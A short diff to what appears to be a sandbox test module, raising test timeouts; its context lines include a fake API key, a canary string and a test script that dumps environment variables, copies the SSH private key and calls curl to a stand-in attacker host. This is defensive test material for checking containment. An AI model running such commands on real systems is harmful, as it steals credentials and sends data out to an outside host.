@@ -17,8 +17,8 @@ from tests.e2e.commands import Commands
 from tests.integration.lab.models import SCENARIO, Block
 from tests.lab import Lab
 
-pytestmark = [pytest.mark.require("bubblewrap", "userns", "overlay", "network-lab")]
-TIMEOUT_S = 110
+pytestmark = [pytest.mark.require("bubblewrap", "userns", "overlay", "network-lab"), pytest.mark.timeout(400)]
+TIMEOUT_S = 250
 KEY = "AIzaSy-lab-key-lab-key-lab-key-lab-key0"
 CANARY = "canary-4d1a7e"
 SCRIPT = f"echo made > made.txt; env > env.txt; cat {{home}}/.ssh/id_ed25519 > key.txt; curl -m 30 https://{CANARY}.evil.example.com"
